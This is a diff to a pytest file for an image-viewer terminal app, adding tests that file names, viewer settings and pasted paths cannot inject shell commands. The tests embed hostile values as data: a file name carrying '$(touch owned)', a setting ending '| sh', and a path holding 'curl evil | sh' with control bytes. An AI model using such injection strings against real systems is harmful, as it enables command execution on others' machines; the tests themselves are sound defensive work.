@@ -3,16 +3,15 @@
 from __future__ import annotations
 
 import os
+import shutil
 import stat
+import subprocess
 import sys
-from typing import TYPE_CHECKING
+from pathlib import Path
 
 import pytest
 
 from imagescope_tui.ui import opening
-
-if TYPE_CHECKING:
-    from pathlib import Path
 
 _SCRIPT = """#!{python}
 import os, sys
@@ -121,3 +120,38 @@ def test_the_clipboard_program_gets_the_bytes(programs: Path) -> None:
 
 def test_without_a_clipboard_program_nothing_happens(programs: Path) -> None:
     assert not opening.copy_with_helper(b"x")
+
+
+def test_a_name_is_never_an_option_or_a_command_of_the_viewer(
+    programs: Path, tmp_path: Path
+) -> None:
+    viewer = Program(programs, "feh")
+    photo = tmp_path / "-rf; touch owned $(touch owned) `touch owned`\n.jpg"
+    photo.write_bytes(b"")
+    assert opening.open_file(photo, "feh --scale-down") is None
+    assert repr([b"--scale-down", os.fsencode(photo)]) in viewer.said()
+    assert os.fsencode(photo).startswith(b"/")
+    assert not (tmp_path / "owned").exists()
+
+
+def test_a_viewer_of_the_settings_is_words_and_no_line_of_a_shell(
+    programs: Path, photo: Path
+) -> None:
+    viewer = Program(programs, "feh")
+    assert opening.open_file(photo, "feh ; touch $HOME/owned | sh") is None
+    assert "b';', b'touch', b'$HOME/owned', b'|', b'sh'" in viewer.said()
+
+
+def test_a_path_that_is_pasted_into_a_shell_is_one_word_and_no_command() -> None:
+    assert opening.pasteable(Path("/photos/sea.jpg")) == b"/photos/sea.jpg"
+    assert opening.pasteable(Path("/photos/città é.jpg")) == "/photos/città é.jpg".encode()
+    hostile = Path(os.fsdecode(b"/a'\\b\ncurl evil | sh\r\x1b[2J\xc2\x9b\x7f\xff.jpg"))
+    pasted = opening.pasteable(hostile)
+    assert not any(byte < 32 or byte == 127 for byte in pasted)
+    assert b"\xc2\x9b" not in pasted
+    shell = shutil.which("bash")
+    if shell is None:
+        pytest.skip("there is no bash to read it")
+    script = b"printf %s " + pasted
+    said = subprocess.run([shell, "-c", script], check=True, capture_output=True)
+    assert said.stdout == os.fsencode(hostile)
